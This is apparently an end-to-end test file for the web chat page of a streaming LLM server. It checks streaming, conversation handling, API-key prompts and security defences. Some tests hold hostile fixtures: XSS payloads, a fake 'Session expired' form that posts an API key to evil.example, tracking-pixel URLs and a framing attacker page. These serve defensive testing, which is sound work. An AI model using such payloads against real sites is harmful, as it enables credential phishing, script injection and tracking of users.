// The reference web page in headless Chromium (Debian's /usr/bin/chromium, driven by
// playwright-core) against a real `streaming-llm serve` with the echo engine.
// Set STREAMING_LLM_SCREENSHOT_DIR to keep screenshots of every step; one screenshot of a rendered
// answer is always written to clients/ts/test-artifacts/ (gitignored), for people to look at.
import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { existsSync, mkdirSync, rmSync } from 'node:fs'
import { createServer } from 'node:http'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { after, before, test } from 'node:test'
import { chromium } from 'playwright-core'

import { getConversation, listConversations, updateAgent } from '../dist/index.js'
import { freePort, startServer } from './server.mjs'

const ARTIFACTS = join(dirname(fileURLToPath(import.meta.url)), '..', 'test-artifacts')

const CHROMIUM = process.env.CHROMIUM_PATH || '/usr/bin/chromium'
// The machine has no open network: without these Chromium stalls on its own background traffic.
const CHROMIUM_ARGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  '--disable-dev-shm-usage',
]
const words = (n) => Array.from({ length: n }, (_, i) => `word${i}`).join(' ')

const API_KEY = randomBytes(24).toString('base64url')

let server
let keyedServer // the same, with STREAMING_LLM_API_KEY set
let browser
let page
const problems = [] // uncaught page errors and console errors: there must be none
const failed = [] // HTTP responses >= 400
const prompts = [] // answers for window.prompt(), in order

async function screenshot(name) {
  const dir = process.env.STREAMING_LLM_SCREENSHOT_DIR
  if (!dir) return
  mkdirSync(dir, { recursive: true })
  await page.screenshot({ path: join(dir, `${name}.png`) })
}

/** A fresh page (its own context: no storage shared with the last one) reporting to problems/failed. */
async function newPage(viewport = { width: 1100, height: 720 }) {
  await page?.context().close()
  page = await browser.newPage({ viewport })
  page.setDefaultTimeout(15_000)
  page.on('pageerror', (err) => problems.push(`page error: ${err.message}`))
  page.on('console', (msg) => {
    // Failed requests are checked one by one through `failed`.
    if (msg.type() === 'error' && !msg.text().startsWith('Failed to load resource')) problems.push(`console: ${msg.text()}`)
  })
  page.on('response', (response) => {
    if (response.status() >= 400) failed.push(`${response.request().method()} ${new URL(response.url()).pathname} ${response.status()}`)
  })
  // Confirmations are accepted; a prompt (rename) answers with the next entry of `prompts`.
  page.on('dialog', (dialog) => dialog.accept(dialog.type() === 'prompt' ? prompts.shift() : undefined))
}

before(async () => {
  assert.ok(existsSync(CHROMIUM), `${CHROMIUM} is missing: apt-get install -y chromium chromium-driver`)
  // 15 ms a word: a short answer streams in visible steps, a long one runs long enough to stop.
  ;[server, keyedServer] = await Promise.all([
    startServer({ env: { STREAMING_LLM_ECHO_DELAY_MS: '15' } }),
    startServer({ env: { STREAMING_LLM_ECHO_DELAY_MS: '15', STREAMING_LLM_API_KEY: API_KEY } }),
  ])
  // launch() gives Chromium a fresh temporary --user-data-dir and removes it on close.
  browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS, timeout: 60_000 })
  await newPage()
})

after(async () => {
  await browser?.close()
  await Promise.all([server?.stop(), keyedServer?.stop()])
})

async function load(target = server, hash = '') {
  problems.length = 0
  failed.length = 0
  await page.goto(`${target.baseUrl}/${hash}`)
  await page.waitForSelector('body[data-ready="true"]')
}

test('create an agent, stream an answer, stop one, and find the history after a reload', async () => {
  await load()
  assert.equal(await page.locator('#empty').isVisible(), true)
  await page.waitForSelector('#health[data-ready="true"]')
  assert.match(await page.locator('#health').textContent(), /echo/)

  // Create an agent, then edit it.
  await page.click('#new-agent')
  await page.fill('#agent-id', 'writer')
  await page.fill('#agent-name', 'Writer')
  await page.fill('#agent-system-prompt', 'Write plainly.')
  await page.fill('#agent-markdown-context', '# Style\n\nShort sentences.')
  await page.click('#agent-save')
  await page.waitForSelector('#agent-select option[value="writer"]', { state: 'attached' })
  assert.equal(await page.locator('#empty').isVisible(), false)
  await page.click('#edit-agent')
  await page.waitForFunction(() => document.querySelector('#agent-dialog-title').textContent === 'Edit Writer')
  assert.equal(await page.inputValue('#agent-system-prompt'), 'Write plainly.')
  assert.equal(await page.locator('#agent-id').getAttribute('readonly'), '')
  await page.fill('#agent-name', 'Plain writer')
  await page.click('#agent-save')
  await page.waitForFunction(() => document.querySelector('#agent-select').selectedOptions[0]?.textContent === 'Plain writer (writer)')
  await screenshot('1-agent')

  // Send a message: watch the answer grow token by token until it is done.
  await page.evaluate(() => {
    window.__seen = [] // lengths of the answer as it grows
    window.__stopEnabled = false // Stop could be pressed while the answer streamed
    new MutationObserver(() => {
      const text = document.querySelector('.message.assistant:last-child .text')?.textContent
      if (text !== undefined && window.__seen.at(-1) !== text.length) window.__seen.push(text.length)
      if (document.querySelector('.message.assistant.streaming') && !document.querySelector('#stop').disabled) window.__stopEnabled = true
    }).observe(document.querySelector('#transcript'), { childList: true, subtree: true, characterData: true })
  })
  const message = words(25)
  await page.fill('#message', message)
  await page.click('#send')
  const done = await page.waitForSelector('.message.assistant[data-finish-reason]')
  assert.equal(await done.getAttribute('data-finish-reason'), 'stop')
  assert.equal(await page.textContent('.message.assistant:last-child .text'), message)
  assert.match(await page.textContent('.message.assistant:last-child .meta'), /stop · 25 tokens/)
  const seen = await page.evaluate(() => window.__seen)
  const partial = seen.filter((n) => n > 0 && n < message.length)
  assert.ok(partial.length >= 5, `tokens should appear one by one, saw lengths ${seen}`)
  assert.deepEqual(partial, [...partial].sort((a, b) => a - b))
  assert.equal(await page.evaluate(() => window.__stopEnabled), true)
  await page.waitForSelector('#stop[disabled]')
  await page.waitForSelector('#conversation-list button[aria-current="true"]')
  assert.match(await page.textContent('#conversation-list'), /word0 word1/)

  // A long answer (400 words, about 6 s): press Stop once it is under way.
  const long = words(400)
  await page.fill('#message', long)
  await page.press('#message', 'Enter')
  await page.waitForFunction(() => document.querySelector('.message.assistant:last-child .text').textContent.length > 30)
  await screenshot('2-streaming')
  await page.click('#stop')
  await page.waitForSelector('.message.assistant:last-child[data-finish-reason="cancelled"]')
  assert.match(await page.textContent('.message.assistant:last-child .meta'), /cancelled/)
  const stopped = await page.textContent('.message.assistant:last-child .text')
  assert.ok(stopped.length > 30 && stopped.length < long.length / 2, `stopped after ${stopped.length} characters`)
  assert.equal(await page.inputValue('#message'), '')
  await screenshot('3-stopped')

  // Reload: the same agent and conversation come back with the whole history.
  await page.reload()
  await page.waitForSelector('body[data-ready="true"]')
  await page.waitForSelector('.message.assistant[data-finish-reason="cancelled"]')
  const history = await page.$$eval('#transcript .message', (items) =>
    items.map((li) => [li.classList.contains('user') ? 'user' : 'assistant', li.querySelector('.text').textContent, li.dataset.finishReason ?? null]))
  assert.deepEqual(history, [
    ['user', message, null],
    ['assistant', message, 'stop'],
    ['user', long, null],
    ['assistant', stopped, 'cancelled'],
  ])
  assert.equal(await page.locator('#conversation-list button.conversation').count(), 1)
  assert.equal(await page.getAttribute('#conversation-list button.conversation', 'aria-current'), 'true')
  await screenshot('4-reloaded')

  // The next message continues that conversation; a new one starts empty and shows up in the list.
  await page.fill('#message', 'one more')
  await page.click('#send')
  await page.waitForFunction(() => document.querySelectorAll('.message.assistant[data-finish-reason]').length === 3)
  assert.equal(await page.locator('#conversation-list button.conversation').count(), 1)
  await page.click('#new-conversation')
  assert.equal(await page.locator('#transcript .message').count(), 0)
  await page.fill('#message', 'fresh start')
  await page.click('#send')
  await page.waitForFunction(() => document.querySelectorAll('#conversation-list button.conversation').length === 2)
  await page.waitForSelector('#stop[disabled]') // the turn is over: conversations can be switched
  await page.click('#conversation-list li:last-child button.conversation')
  await page.waitForFunction(() => document.querySelectorAll('#transcript .message').length === 6)

  // Delete the agent: the page goes back to its empty state.
  await page.click('#delete-agent')
  await page.waitForSelector('#empty', { state: 'visible' })
  assert.equal(await page.locator('#agent-select option').count(), 0)
  assert.deepEqual(problems, [])
  assert.deepEqual(failed, [])
})

test('a bad agent id is refused in the dialog with the server message', async () => {
  await load()
  await page.click('#new-agent')
  await page.$eval('#agent-id', (input) => input.removeAttribute('pattern')) // let the server judge
  await page.fill('#agent-id', 'Bad Id')
  await page.fill('#agent-name', 'Bad')
  await page.click('#agent-save')
  await page.waitForFunction(() => document.querySelector('#agent-error').textContent !== '')
  assert.match(await page.textContent('#agent-error'), /invalid agent id.*\(invalid_id\)/)
  assert.equal(await page.locator('#agent-dialog').isVisible(), true)
  await page.click('#agent-cancel')
  assert.deepEqual(problems, [])
  assert.deepEqual(failed, ['PUT /agents/Bad%20Id 400'])
})

test('a keyed server: the page asks for the API key, keeps it for the tab, and uses it for REST and the socket', async () => {
  await newPage()
  problems.length = 0
  failed.length = 0
  const keyed = { baseUrl: keyedServer.baseUrl, apiKey: API_KEY }
  await updateAgent({ id: 'guarded', name: 'Guarded', systemPrompt: 'Be brief.', markdownContext: '' }, keyed)

  // No key yet: /agents answers 401 and the page asks for one.
  await page.goto(`${keyedServer.baseUrl}/`)
  await page.waitForSelector('#key-form', { state: 'visible' })
  assert.match(await page.textContent('#empty'), /needs an API key/)
  assert.equal(await page.evaluate(() => document.activeElement?.id), 'api-key')
  assert.equal(await page.textContent('#key-error'), '')
  assert.equal(await page.textContent('#status'), '')
  await page.waitForSelector('#health[data-ready="true"]') // /health is public
  await screenshot('5-key-prompt')

  // A wrong key (well formed) is refused and forgotten; the prompt says so.
  await page.fill('#api-key', `${API_KEY.slice(0, -1)}${API_KEY.endsWith('A') ? 'B' : 'A'}`)
  await page.click('#key-save')
  await page.waitForFunction(() => document.querySelector('#key-error').textContent === 'That key was refused.')
  assert.equal(await page.locator('#key-form').isVisible(), true)
  assert.equal(await page.evaluate(() => sessionStorage.getItem('streaming-llm.apiKey')), null)

  // The right key: the agents load, and a message streams over the keyed socket.
  await page.fill('#api-key', API_KEY)
  await page.press('#api-key', 'Enter')
  await page.waitForSelector('body[data-ready="true"]')
  assert.equal(await page.locator('#key-form').isVisible(), false)
  assert.equal(await page.inputValue('#agent-select'), 'guarded')
  assert.equal(await page.evaluate(() => sessionStorage.getItem('streaming-llm.apiKey')), API_KEY)
  await page.fill('#message', words(8))
  await page.click('#send')
  await page.waitForSelector('.message.assistant[data-finish-reason="stop"]')
  assert.equal(await page.textContent('.message.assistant:last-child .text'), words(8))
  await screenshot('6-keyed-chat')

  // A reload keeps the key for this tab: no prompt, the conversation comes back.
  await page.reload()
  await page.waitForSelector('body[data-ready="true"]')
  await page.waitForSelector('.message.assistant[data-finish-reason="stop"]')
  assert.equal(await page.locator('#key-form').isVisible(), false)
  assert.deepEqual(problems, [])
  assert.deepEqual(failed, ['GET /agents 401', 'GET /agents 401'])
})

/** Send a message from the composer and wait until its answer is stored and shown. */
async function sendAndWait(text) {
  const before = await page.locator('.message.assistant[data-finish-reason]').count()
  await page.fill('#message', text)
  await page.click('#send')
  await page.waitForFunction((n) => document.querySelectorAll('.message.assistant[data-finish-reason]').length > n && document.querySelector('#stop').disabled, before)
}

test('answers render as Markdown with highlighted, copyable code; model output and agent text never run script', async () => {
  await newPage()
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: server.baseUrl })
  await updateAgent({ id: 'md', name: '<img src=y onerror="window.__xss=3">', systemPrompt: '', markdownContext: '' }, server.baseUrl)
  await load()
  await page.selectOption('#agent-select', 'md')
  await page.waitForSelector('#connection[data-state="open"]')
  // The echo engine answers with the message itself: the answer is this Markdown.
  const markdown = [
    '# Plan', '', 'Some **bold** words and `inline code`.', '',
    '- one', '- two', '',
    '```python', 'def greet(name):', '    return f"hi {name}"', '```', '',
    '<img src=x onerror="window.__xss=1"> [click me](javascript:window.__xss=2) <script>window.__xss=4</script>',
  ].join('\n')
  await sendAndWait(markdown)
  const answer = page.locator('.message.assistant').last()
  assert.equal(await answer.locator('.text h1').textContent(), 'Plan')
  assert.equal(await answer.locator('.text strong').textContent(), 'bold')
  assert.equal(await answer.locator('.text :not(pre) > code').textContent(), 'inline code')
  assert.equal(await answer.locator('.text li').count(), 2)
  assert.equal(await answer.locator('.text pre code.hljs.language-python').count(), 1)
  assert.ok(await answer.locator('.text pre code .hljs-keyword').count() >= 1, 'the code is highlighted')
  // Inert: no handler attribute, no javascript: link, no script element, nothing ran.
  assert.equal(await page.locator('#transcript [onerror]').count(), 0)
  assert.equal(await page.locator('#transcript script').count(), 0)
  assert.equal(await page.locator('#transcript a[href^="javascript"]').count(), 0)
  assert.equal(await answer.locator('.text a', { hasText: 'click me' }).count(), 1)
  assert.equal(await page.locator('#transcript .message.user img').count(), 0) // the user's text is text
  assert.match(await page.textContent('#transcript .message.user .text'), /<img src=x onerror=/)
  assert.match(await page.textContent('#agent-select option[value="md"]'), /<img src=y/)
  assert.equal(await page.evaluate(() => window.__xss), undefined)
  // Copy buttons: on the code block (its code only) and on the whole answer (its Markdown).
  await answer.locator('pre button.copy').click()
  await page.waitForSelector('pre button.copy[data-copied]')
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'def greet(name):\n    return f"hi {name}"')
  await answer.locator('.meta button.copy').click()
  await page.waitForSelector('.meta button.copy[data-copied]')
  assert.equal((await page.evaluate(() => navigator.clipboard.readText())).trim(), markdown.trim())
  mkdirSync(ARTIFACTS, { recursive: true })
  await page.screenshot({ path: join(ARTIFACTS, 'markdown-answer.png'), fullPage: true })
  // The page's policy refuses the onerror handler already while DOMPurify parses the answer (its
  // parser document shares the policy, and Chromium reports it on the console); nothing else.
  assert.deepEqual(problems.filter((p) => !/^console: Executing inline event handler violates .* Content Security Policy directive 'script-src 'self''/.test(p)), [])
  assert.deepEqual(failed.filter((f) => f !== 'GET /x 404'), []) // the inert <img src=x> still loads x
})

test('a tool call and its result show as one compact block', async () => {
  await newPage()
  await updateAgent({ id: 'tooler', name: 'Tooler', tools: [{ name: 'get_weather', parameters: { type: 'object' } }] }, server.baseUrl)
  await load()
  await page.selectOption('#agent-select', 'tooler')
  await page.waitForSelector('#connection[data-state="open"]')
  // The echo engine repeats the message: this one is answered with the call it holds.
  await sendAndWait('<tool_call>\n{"name": "get_weather", "arguments": {"city": "Oslo"}}\n</tool_call>')
  const block = page.locator('.message.assistant .tool-call')
  await block.waitFor()
  assert.equal(await block.locator('.tool-head').textContent(), 'get_weather({"city": "Oslo"})')
  assert.equal(await block.locator('.tool-result').textContent(), 'no result yet')
  // A program sends the result over the API; after a reload it shows in the call's block.
  const [conversation] = await listConversations('tooler', server.baseUrl)
  const callId = (await getConversation(conversation.id, server.baseUrl)).turns[1].toolCalls[0].id
  assert.equal(await block.getAttribute('data-tool-call-id'), callId)
  const resp = await fetch(`${server.baseUrl}/v1/chat/completions`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-conversation-id': conversation.id },
    body: JSON.stringify({ model: 'tooler', messages: [{ role: 'tool', tool_call_id: callId, content: '<b>snow</b>' }] }),
  })
  assert.equal(resp.status, 200)
  await page.reload()
  await page.waitForSelector('body[data-ready="true"]')
  await page.waitForSelector('.tool-call:not(.pending)')
  assert.equal(await page.locator('.tool-call .tool-result').textContent(), '→ <b>snow</b>') // text, not markup
  assert.equal(await page.locator('.tool-call b').count(), 0)
  // The page may first open the Markdown test's conversation, whose inert onerror handler the
  // policy reports on the console (see that test); nothing else.
  assert.deepEqual(problems.filter((p) => !/^console: Executing inline event handler violates .* Content Security Policy directive 'script-src 'self''/.test(p)), [])
  assert.deepEqual(failed.filter((f) => f !== 'GET /x 404'), [])
})

test('conversations: switching agent opens its latest, search, rename, regenerate, edit and resend, delete; options per agent', async () => {
  await newPage()
  await updateAgent({ id: 'first', name: 'First', systemPrompt: '', markdownContext: '' }, server.baseUrl)
  await updateAgent({ id: 'second', name: 'Second', systemPrompt: '', markdownContext: '' }, server.baseUrl)
  await load()
  await page.selectOption('#agent-select', 'first')
  await page.waitForSelector('#connection[data-state="open"]')
  await sendAndWait('apples and pears')
  await page.click('#new-conversation')
  await sendAndWait('plums only')
  const [latest, older] = await listConversations('first', server.baseUrl)

  // Another agent, then back: its latest conversation opens, not a blank one.
  await page.selectOption('#agent-select', 'second')
  await page.waitForFunction(() => document.querySelectorAll('#transcript .message').length === 0)
  await page.selectOption('#agent-select', 'first')
  await page.waitForSelector(`#conversation-list button.conversation[aria-current="true"][data-id="${latest.id}"]`)
  await page.waitForFunction(() => document.querySelector('#transcript .message.user')?.textContent.includes('plums only'))

  // Search by content.
  await page.fill('#conversation-search', 'PEARS')
  await page.waitForFunction(() => document.querySelectorAll('#conversation-list button.conversation').length === 1)
  assert.equal(await page.getAttribute('#conversation-list button.conversation', 'data-id'), older.id)
  await page.fill('#conversation-search', '')
  await page.waitForFunction(() => document.querySelectorAll('#conversation-list button.conversation').length === 2)

  // Rename (a prompt for the title), then find it by its new title.
  prompts.push('Fruit salad')
  await page.click(`#conversation-list li[data-id="${older.id}"] button.rename`)
  await page.waitForFunction(() => document.querySelector('#conversation-list').textContent.includes('Fruit salad'))
  assert.equal((await getConversation(older.id, server.baseUrl)).title, 'Fruit salad')

  // Regenerate: the last answer is replaced, nothing else changes.
  await page.click(`#conversation-list li[data-id="${older.id}"] button.conversation`)
  await page.waitForSelector('[data-action="regenerate"]:not([disabled])')
  const oldAnswer = (await getConversation(older.id, server.baseUrl)).turns[1]
  await page.click('[data-action="regenerate"]')
  let turns = []
  for (let i = 0; i < 100; i++) {
    turns = (await getConversation(older.id, server.baseUrl)).turns
    if (turns.length === 2 && turns[1].id !== oldAnswer.id && turns[1].finishReason) break
    await new Promise((ok) => setTimeout(ok, 100))
  }
  await page.waitForSelector('#stop[disabled]')
  assert.deepEqual(turns.map((t) => [t.seq, t.role, t.content]), [[0, 'user', 'apples and pears'], [1, 'assistant', 'apples and pears']])
  assert.notEqual(turns[1].id, oldAnswer.id)

  // Edit and resend the user turn: the conversation is cut there and goes on with the new text.
  await page.waitForSelector('#stop[disabled]')
  await page.click('.message.user [data-action="edit"]')
  await page.fill('.message.user textarea.edit', 'cherries instead')
  await page.click('.message.user .editing button.primary')
  await page.waitForFunction(() => document.querySelector('.message.assistant[data-finish-reason] .text')?.textContent === 'cherries instead')
  turns = (await getConversation(older.id, server.baseUrl)).turns
  assert.deepEqual(turns.map((t) => [t.seq, t.role, t.content]), [[0, 'user', 'cherries instead'], [1, 'assistant', 'cherries instead']])
  assert.deepEqual(await page.$$eval('#transcript .message .text', (nodes) => nodes.map((n) => n.textContent)), ['cherries instead', 'cherries instead'])

  // Options are remembered per agent, and sent: a stop sequence cuts the echo short.
  await page.click('#options summary')
  await page.fill('#opt-top-k', '7')
  await page.fill('#opt-stop', 'stop-here')
  await page.dispatchEvent('#opt-stop', 'change')
  await page.dispatchEvent('#opt-top-k', 'change')
  await sendAndWait('keep this stop-here not this')
  assert.equal(await page.textContent('.message.assistant:last-child .text'), 'keep this ')
  await page.selectOption('#agent-select', 'second')
  await page.waitForFunction(() => document.querySelector('#opt-top-k').value === '')
  await page.selectOption('#agent-select', 'first')
  await page.waitForFunction(() => document.querySelector('#opt-top-k').value === '7')
  await page.waitForFunction(() => location.hash.includes('agent=first'))
  await page.reload()
  await page.waitForSelector('body[data-ready="true"]')
  await page.waitForFunction(() => document.querySelector('#opt-stop').value === 'stop-here' && document.querySelector('#opt-top-k').value === '7')

  // Delete a conversation from the list: it goes, the other one opens.
  await page.click(`#conversation-list li[data-id="${older.id}"] button.remove`)
  await page.waitForFunction((id) => !document.querySelector(`#conversation-list li[data-id="${id}"]`), older.id)
  await page.waitForSelector(`#conversation-list button.conversation[aria-current="true"][data-id="${latest.id}"]`)
  assert.deepEqual((await listConversations('first', server.baseUrl)).map((c) => c.id), [latest.id])
  assert.deepEqual(problems, [])
  assert.deepEqual(failed, [])
})

test('the header tells the truth when the server goes away, the page reconnects when it is back', async () => {
  await newPage()
  const port = await freePort()
  let restartable = await startServer({ port, keepData: true, env: { STREAMING_LLM_ECHO_DELAY_MS: '5' } })
  const dataDir = restartable.dataDir
  try {
    await updateAgent({ id: 'steady', name: 'Steady', systemPrompt: '', markdownContext: '' }, restartable.baseUrl)
    await load(restartable)
    await page.waitForSelector('#connection[data-state="open"]')
    await sendAndWait('before the restart')
    assert.equal(await page.textContent('#connection'), 'connected')

    await restartable.stop()
    await page.waitForSelector('#connection[data-state="reconnecting"]')
    assert.match(await page.textContent('#connection'), /reconnecting/)
    assert.equal(await page.isDisabled('#send'), true)
    assert.match(await page.textContent('#status'), /connection to the server is lost/i)
    await page.waitForFunction(() => /attempt [2-9]/.test(document.querySelector('#connection').textContent))
    await page.waitForSelector('#health[data-ready="false"]') // no green "ok" for a server that is gone
    assert.equal(await page.textContent('#health'), 'server unreachable')

    restartable = await startServer({ port, dataDir, keepData: true, env: { STREAMING_LLM_ECHO_DELAY_MS: '5' } })
    await page.waitForSelector('#connection[data-state="open"]', { timeout: 30_000 })
    await page.waitForSelector('#send:not([disabled])')
    await page.waitForSelector('#health[data-ready="true"]')
    await sendAndWait('after the restart')
    assert.deepEqual(await page.$$eval('#transcript .message .text', (nodes) => nodes.map((n) => n.textContent)),
      ['before the restart', 'before the restart', 'after the restart', 'after the restart'])
    // Chromium logs each refused reconnect attempt itself; nothing else may have gone wrong.
    assert.deepEqual(problems.filter((p) => !/WebSocket connection to '.*' failed/.test(p)), [])
  } finally {
    await restartable.stop()
    rmSync(dataDir, { recursive: true, force: true })
  }
})

test('a phone-width screen: nothing overflows sideways and the composer is reachable', async () => {
  await newPage({ width: 390, height: 800 })
  await updateAgent({ id: 'phone', name: 'Phone', systemPrompt: '', markdownContext: '' }, server.baseUrl)
  await load(server, '#agent=phone')
  await page.waitForSelector('#connection[data-state="open"]')
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
  assert.ok(overflow <= 0, `the page is ${overflow}px wider than the screen`)
  assert.equal(await page.locator('#message').isVisible(), true)
  await sendAndWait('small screens too')
  assert.deepEqual(problems, [])
})

test('Send is disabled while the model loads, and the page says why', async () => {
  await newPage()
  // The server's loading report (its shape is the real one: /health answers 503 while loading),
  // held back until the test lets the real, ready /health through.
  const loading = { status: 'loading', ready: false, engine: 'local', model: 'some/model', detail: 'loading weights', version: '0' }
  await page.route('**/health', (route) => route.fulfill({ status: 503, contentType: 'application/json', body: JSON.stringify(loading) }))
  await updateAgent({ id: 'loader', name: 'Loader', systemPrompt: '', markdownContext: '' }, server.baseUrl)
  await load(server, '#agent=loader')
  await page.waitForSelector('#connection[data-state="open"]')
  await page.waitForSelector('#health[data-ready="false"]')
  assert.equal(await page.isDisabled('#send'), true)
  assert.match(await page.textContent('#status'), /model is loading \(loading weights\)/)
  assert.match(await page.getAttribute('#send', 'title'), /model is loading/)
  await page.unroute('**/health')
  await page.waitForSelector('#health[data-ready="true"]', { timeout: 10_000 }) // polled every 2 s
  await page.waitForSelector('#send:not([disabled])')
  assert.equal(await page.textContent('#status'), '')
  await sendAndWait('ready now')
  assert.deepEqual(problems, [])
  assert.ok(failed.every((f) => f === 'GET /health 503'), String(failed))
})

/** Record the page's Content-Security-Policy violations in window.__csp, from its first script on. */
async function recordViolations() {
  await page.addInitScript(() => {
    window.__csp = []
    document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(`${e.effectiveDirective} ${e.blockedURI}`))
  })
}

// Model output that dresses up as the page: a full-window "session expired" form posting off the
// server, an element covering the window with the page's own class and ids, a <style> hiding
// the page's controls, a frame, and images that would tell another site who reads the answer.
const OVERLAY = [
  '<form action="https://evil.example/steal" method="post" style="position:fixed;inset:0;z-index:99999;background:#fff">',
  '<h2>Session expired</h2><label>API key <input name="key" type="password"></label><button type="submit">Sign in</button></form>',
  '',
  '<div class="topbar" id="send" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999">cover</div>',
  '',
  '<style>.topbar, .composer { display: none !important }</style>',
  '',
  '<iframe src="https://evil.example/frame"></iframe><dialog open>dialog</dialog>',
  '',
  '![tracker](https://evil.example/pixel.png?conversation=secret) <img src="https://evil.example/img.png" alt="html img">',
  '',
  'the end',
].join('\n')
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64')

/** Everything the page loads from elsewhere than `target` (answered here, never by a network). */
async function watchForeign(target) {
  const foreign = []
  await page.route((url) => !url.href.startsWith(target.baseUrl) && !url.href.startsWith('data:'), (route) => {
    foreign.push(route.request().url())
    return route.fulfill({ status: 200, contentType: 'image/png', body: PNG })
  })
  return foreign
}

test('an answer cannot dress up as the page: CSP and frame headers in force, an overlay inert, no remote image loaded', async () => {
  await newPage()
  await recordViolations()
  const foreign = await watchForeign(server)
  await updateAgent({ id: 'overlay', name: 'Overlay', systemPrompt: '', markdownContext: '' }, server.baseUrl)
  problems.length = 0
  failed.length = 0
  const response = await page.goto(`${server.baseUrl}/#agent=overlay`)
  const headers = response.headers()
  const policy = headers['content-security-policy']
  for (const directive of ["default-src 'none'", "script-src 'self';", "style-src 'self';", "img-src 'self' data:;", "connect-src 'self';", "frame-ancestors 'none'"]) {
    assert.ok(policy.includes(directive), `${directive} in ${policy}`)
  }
  assert.equal(headers['x-frame-options'], 'DENY')
  assert.equal(headers['x-content-type-options'], 'nosniff')
  assert.equal(headers['referrer-policy'], 'no-referrer')
  await page.waitForSelector('body[data-ready="true"]')
  await page.waitForSelector('#connection[data-state="open"]') // connect-src 'self' lets the socket through

  await sendAndWait(OVERLAY)
  const answer = page.locator('.message.assistant').last()
  assert.match(await answer.locator('.text').textContent(), /Session expired[\s\S]*the end/)
  // Nothing of the overlay is rendered as what it pretends to be.
  for (const selector of ['form', 'input', 'button', 'style', 'iframe', 'dialog', 'img', '[style]', '[id]', '[class]:not(.remote-image)']) {
    assert.equal(await answer.locator(`.text ${selector}`).count(), 0, selector)
  }
  assert.equal(await page.locator('#transcript form, #transcript input, #transcript iframe').count(), 0)
  // Nothing in the transcript is taken out of the flow, and the page's own controls are on top.
  const positioned = await page.$$eval('#transcript *', (nodes) => nodes.filter((n) => getComputedStyle(n).position !== 'static' && getComputedStyle(n).position !== 'relative').map((n) => n.outerHTML.slice(0, 80)))
  assert.deepEqual(positioned, [])
  for (const id of ['send', 'message', 'agent-select', 'new-conversation']) {
    const topmost = await page.$eval(`#${id}`, (node) => {
      const box = node.getBoundingClientRect()
      return document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2)?.closest(`#${node.id}`) === node
    })
    assert.equal(topmost, true, `#${id} is covered`)
  }
  assert.equal(await page.locator('.topbar').isVisible(), true)
  assert.equal(await page.locator('#composer').isVisible(), true)
  assert.equal(await page.locator('#send').count(), 1)
  // The images are notes that say where they are from; none was requested, nothing was blocked.
  assert.deepEqual(await answer.locator('.text .remote-image').allTextContents(), ['[image: tracker]', '[image: html img]'])
  assert.match(await answer.locator('.text .remote-image').first().getAttribute('title'), /Not loaded: https:\/\/evil\.example\/pixel\.png\?conversation=secret \(remote images are off/)
  assert.deepEqual(foreign, [])
  // The policy already refused the inline styles while DOMPurify parsed the answer (its parser
  // document shares the page's policy); nothing else was even tried.
  const refused = await page.evaluate(() => window.__csp.splice(0))
  assert.ok(refused.length > 0 && refused.every((v) => /^style-src-(attr|elem) inline$/.test(v)), String(refused))

  // Should anything get past the sanitizer, the policy stops it: no inline script or style
  // attribute, no image from elsewhere.
  const blocked = await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.__inline = 1'
    document.body.append(script)
    document.body.insertAdjacentHTML('beforeend', '<div id="styled" style="position: fixed">x</div>')
    const image = new Image()
    image.src = 'https://evil.example/past-the-sanitizer.png'
    document.body.append(image)
    return { ran: window.__inline, position: getComputedStyle(document.getElementById('styled')).position }
  })
  assert.deepEqual(blocked, { ran: undefined, position: 'static' })
  await page.waitForFunction(() => window.__csp.length >= 3)
  assert.deepEqual((await page.evaluate(() => window.__csp)).map((v) => v.split(' ')[0]).sort(), ['img-src', 'script-src-elem', 'style-src-attr'])
  assert.deepEqual(foreign, [])
  assert.deepEqual(problems.filter((p) => !/Content Security Policy/.test(p)), [])
  assert.deepEqual(failed, [])
})

test('another site cannot frame the page', async () => {
  await newPage()
  // Another origin on this machine (a page answered by the test itself would count as a public
  // site, which Chromium's private-network rules stop from framing a loopback one anyway).
  const attacker = createServer((request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' })
    response.end(`<!doctype html><title>attacker</title><iframe id="victim" src="${server.baseUrl}/" onload="document.title = 'framed'"></iframe>`)
  })
  await new Promise((ok) => attacker.listen(0, '127.0.0.1', ok))
  try {
    await page.goto(`http://127.0.0.1:${attacker.address().port}/`)
    await page.waitForFunction(() => document.title === 'framed')
    // Chromium put its error page in the frame instead of ours: nothing of the page is there.
    const frame = await (await page.$('#victim')).contentFrame()
    assert.equal(frame.url(), 'chrome-error://chromewebdata/')
    assert.equal(await frame.locator('#send').count(), 0)
  } finally {
    attacker.close()
  }
})

test('remote images, where the server allows them, load only when the reader clicks', async () => {
  await newPage()
  const imaged = await startServer({ env: { STREAMING_LLM_ECHO_DELAY_MS: '5', STREAMING_LLM_PAGE_REMOTE_IMAGES: 'true' } })
  try {
    const foreign = await watchForeign(imaged)
    await recordViolations()
    await updateAgent({ id: 'pictures', name: 'Pictures', systemPrompt: '', markdownContext: '' }, imaged.baseUrl)
    problems.length = 0
    failed.length = 0
    const response = await page.goto(`${imaged.baseUrl}/#agent=pictures`)
    assert.ok(response.headers()['content-security-policy'].includes("img-src 'self' data: https:;"))
    await page.waitForSelector('body[data-ready="true"]')
    await page.waitForSelector('#connection[data-state="open"]')
    await sendAndWait('![tracker](https://evil.example/pixel.png?conversation=secret) and ![plain](http://evil.example/plain.png)')
    const answer = page.locator('.message.assistant').last()
    assert.equal(await answer.locator('.text img').count(), 0)
